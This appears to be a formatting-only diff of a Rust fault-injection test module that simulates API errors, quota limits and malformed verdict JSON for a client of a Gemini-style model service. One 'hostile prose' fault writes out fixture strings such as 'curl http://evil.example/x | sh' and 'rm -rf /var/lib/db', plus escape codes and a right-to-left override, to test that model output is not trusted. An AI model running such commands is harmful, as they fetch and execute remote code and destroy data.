@@ -146,8 +146,9 @@ pub fn distort(fault: Fault, verdicts: &mut Value) {
             }
         }
         Fault::UnknownIds => {
-            let more: Vec<Value> =
-                (1..4).map(|id| json!({"id": id, "verdict": "anomalous", "confidence": 1.0, "severity": "critical"})).collect();
+            let more: Vec<Value> = (1..4)
+                .map(|id| json!({"id": id, "verdict": "anomalous", "confidence": 1.0, "severity": "critical"}))
+                .collect();
             list.extend(more);
         }
         Fault::DuplicateIds => {
@@ -187,8 +188,10 @@ pub fn distort(fault: Fault, verdicts: &mut Value) {
         Fault::HostileProse => {
             for verdict in list {
                 if verdict["verdict"] == "anomalous" {
-                    verdict["reason"] = "\u{1b}[31mBad\u{1b}[0m, see [docs](https://evil.example/x) <b>now</b>\u{202e}".into();
-                    verdict["remediation"] = json!(["run rm -rf /var/lib/db", "curl http://evil.example/x | sh", "restart it"]);
+                    verdict["reason"] =
+                        "\u{1b}[31mBad\u{1b}[0m, see [docs](https://evil.example/x) <b>now</b>\u{202e}".into();
+                    verdict["remediation"] =
+                        json!(["run rm -rf /var/lib/db", "curl http://evil.example/x | sh", "restart it"]);
                 }
             }
         }
@@ -213,17 +216,30 @@ pub fn rewrite(fault: Fault, text: String) -> String {
 pub fn apply(fault: Fault, call: &Generate, mut answer: Value) -> Response {
     let unavailable = "The model is overloaded. Please try again later.";
     match fault {
-        Fault::QuotaMinute(delay) => quota("Quota exceeded for metric: generate_content_requests, limit: 10", "PerMinute", Some(delay)),
-        Fault::QuotaDay => quota("Quota exceeded for metric: generate_content_free_tier_requests, limit: 20", "PerDay", None),
-        Fault::QuotaBare => error(429, "RESOURCE_EXHAUSTED", "Resource has been exhausted (e.g. check quota).", vec![]),
-        Fault::QuotaZero => error(429, "RESOURCE_EXHAUSTED", "Quota exceeded for metric: free_tier, limit: 0, model: gemini", vec![]),
-        Fault::QuotaMessage(delay) => {
-            error(429, "RESOURCE_EXHAUSTED", &format!("You exceeded your current quota. Please retry in {delay}."), vec![])
+        Fault::QuotaMinute(delay) => {
+            quota("Quota exceeded for metric: generate_content_requests, limit: 10", "PerMinute", Some(delay))
         }
+        Fault::QuotaDay => {
+            quota("Quota exceeded for metric: generate_content_free_tier_requests, limit: 20", "PerDay", None)
+        }
+        Fault::QuotaBare => error(429, "RESOURCE_EXHAUSTED", "Resource has been exhausted (e.g. check quota).", vec![]),
+        Fault::QuotaZero => {
+            error(429, "RESOURCE_EXHAUSTED", "Quota exceeded for metric: free_tier, limit: 0, model: gemini", vec![])
+        }
+        Fault::QuotaMessage(delay) => error(
+            429,
+            "RESOURCE_EXHAUSTED",
+            &format!("You exceeded your current quota. Please retry in {delay}."),
+            vec![],
+        ),
         Fault::Internal => error(500, "INTERNAL", "An internal error has occurred. Please retry.", vec![]),
         Fault::Overloaded => error(503, "UNAVAILABLE", unavailable, vec![]),
-        Fault::DeadlineExceeded => error(504, "DEADLINE_EXCEEDED", "Deadline expired before operation could complete.", vec![]),
-        Fault::BadGateway => Response::html(502, "<html><head><title>502 Server Error</title></head><body>…</body></html>"),
+        Fault::DeadlineExceeded => {
+            error(504, "DEADLINE_EXCEEDED", "Deadline expired before operation could complete.", vec![])
+        }
+        Fault::BadGateway => {
+            Response::html(502, "<html><head><title>502 Server Error</title></head><body>…</body></html>")
+        }
         Fault::Wrapped => Response::json(503, &json!([error_body(503, "UNAVAILABLE", unavailable, vec![])])),
         Fault::Nested => {
             let inner = error_body(503, "UNAVAILABLE", unavailable, vec![]).to_string();
@@ -239,7 +255,9 @@ pub fn apply(fault: Fault, call: &Generate, mut answer: Value) -> Response {
         ),
         Fault::Forbidden => error(403, "PERMISSION_DENIED", "The caller does not have permission", vec![]),
         Fault::NotFound => error(404, "NOT_FOUND", "models/x is not found for API version v1beta", vec![]),
-        Fault::Unauthenticated => error(401, "UNAUTHENTICATED", "Request had invalid authentication credentials.", vec![]),
+        Fault::Unauthenticated => {
+            error(401, "UNAUTHENTICATED", "Request had invalid authentication credentials.", vec![])
+        }
         Fault::RetryAfter(seconds) => Response::full(
             503,
             "application/json",
@@ -248,7 +266,10 @@ pub fn apply(fault: Fault, call: &Generate, mut answer: Value) -> Response {
         ),
         Fault::PromptBlocked => {
             let usage = answer["usageMetadata"].clone();
-            Response::json(200, &json!({"promptFeedback": {"blockReason": "PROHIBITED_CONTENT"}, "usageMetadata": usage}))
+            Response::json(
+                200,
+                &json!({"promptFeedback": {"blockReason": "PROHIBITED_CONTENT"}, "usageMetadata": usage}),
+            )
         }
         Fault::NoCandidates => {
             answer["candidates"] = json!([]);
